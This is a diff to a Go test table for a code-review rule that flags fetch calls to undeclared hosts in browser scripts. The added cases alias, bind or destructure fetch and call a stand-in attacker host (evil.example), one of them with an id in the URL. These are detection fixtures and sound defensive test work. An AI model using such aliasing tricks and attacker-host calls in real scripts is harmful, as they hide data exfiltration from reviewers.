@@ -58,6 +58,11 @@ var ruleCases = []struct {
 	{"review/undeclared-host", false, "subdomain of @connect", xgsSkill("// @connect shop-cdn.example\n", `fetch("https://img.shop-cdn.example/a.png")`)},
 	{"review/undeclared-host", false, "the @match site", xgsSkill("", `fetch("https://www.shop.example/api/cart", {credentials: "include"})`)},
 	{"review/undeclared-host", false, "a method named fetch", xgsSkill("", `store.fetch("https://evil.example/x")`)},
+	{"review/undeclared-host", true, "fetch bound to another name", xgsSkill("", "const send = fetch;\nsend(\"https://evil.example/x\")")},
+	{"review/undeclared-host", true, "window.fetch bound", xgsSkill("", "let f = window.fetch.bind(window)\nf(`https://evil.example/${id}`)")},
+	{"review/undeclared-host", true, "fetch destructured", xgsSkill("", "const { fetch: go } = globalThis;\ngo(\"https://evil.example/x\")")},
+	{"review/undeclared-host", false, "fetch's result bound", xgsSkill("", "const r = fetch(\"/api\");\nr(\"https://evil.example/x\")")},
+	{"review/undeclared-host", false, "an alias's method", xgsSkill("", "const f = fetch;\nstore.f(\"https://evil.example/x\")")},
 
 	{"review/dynamic-url", true, "variable URL", xgsSkill("", `fetch(url)`)},
 	{"review/dynamic-url", false, "location-based URL", xgsSkill("", `fetch(location.origin + "/api")`)},
